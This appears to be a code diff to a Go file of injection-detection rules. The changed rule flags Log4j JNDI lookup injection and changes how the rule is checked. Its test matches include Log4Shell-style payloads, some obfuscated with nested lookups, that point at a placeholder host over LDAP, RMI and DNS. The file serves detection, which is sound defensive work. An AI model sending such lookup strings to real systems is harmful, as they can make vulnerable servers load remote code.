@@ -37,7 +37,7 @@ var injectRules = []Rule{
 		NoMatch: []string{"<%= user.name %>", "<% if x %>"},
 	},
 	{
-		Kind: "template-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: notInDocument,
+		Kind: "template-injection", Family: Commands, Score: High, Places: []Place{Argument}, Check: notStored,
 		Doc:     "A look-up of Log4j that loads code from elsewhere, nested look-ups that only hide it included.",
 		Pattern: `(?i)\$\{jndi\b|\$\{\$\{(?:lower|upper|env|date|sys):[^}]{0,40}\}[^\n]{0,100}:|\$\{\$\{::-[^\n]{0,100}:`,
 		Match:   []string{"${jndi:ldap://x.example/a}", "${${lower:j}ndi:rmi://x.example/a}", "${${::-j}${::-n}di:dns://x.example}"},
